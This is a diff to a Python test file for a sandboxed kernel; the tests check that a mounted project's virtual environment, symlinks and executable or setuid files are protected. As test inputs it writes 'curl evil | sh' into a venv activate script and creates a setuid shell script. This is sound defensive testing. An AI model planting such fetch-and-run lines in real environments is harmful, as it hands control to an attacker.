@@ -231,7 +231,7 @@ def test_a_virtual_environment_in_the_mount_is_not_changed(mounted, project, unt
     _, kc = mounted
     run = execute(kc, "open('/out/venv/bin/activate', 'a').write('curl evil | sh')")
     assert run.content["status"] == "ok", run.content  # not a data file: it stays inside the sandbox
-    run = execute(kc, "open('/out/venv/notes.txt', 'w').write('a data file, but in a virtual environment')")
+    run = execute(kc, "open('/out/venv/notes.csv', 'w').write('a data file, but in a virtual environment')")
     assert run.content["ename"] == "PermissionError"
     assert "inside the Python virtual environment /out/venv" in run.content["evalue"]
     run = execute(kc, "import os\nos.rename('/out/venv', '/out/venv2')")
@@ -249,12 +249,12 @@ def test_no_symlinks_and_no_executables_are_made(mounted, project):
     assert not (project / "alias").exists() and not (project / "alias").is_symlink()
     try:
         run = execute(
-            kc, "import os\nopen('/out/tool.txt', 'w').write('#!/bin/sh\\nid')\nos.chmod('/out/tool.txt', 0o4755)"
+            kc, "import os\nopen('/out/tool.csv', 'w').write('#!/bin/sh\\nid')\nos.chmod('/out/tool.csv', 0o4755)"
         )
         assert run.content["status"] == "ok", run.content
-        assert (project / "tool.txt").stat().st_mode & 0o7777 == 0o644  # no setuid, not executable
+        assert (project / "tool.csv").stat().st_mode & 0o7777 == 0o644  # no setuid, not executable
     finally:
-        (project / "tool.txt").unlink(missing_ok=True)
+        (project / "tool.csv").unlink(missing_ok=True)
 
 
 def test_ordinary_files_and_folders_are_written_as_usual(mounted, project):
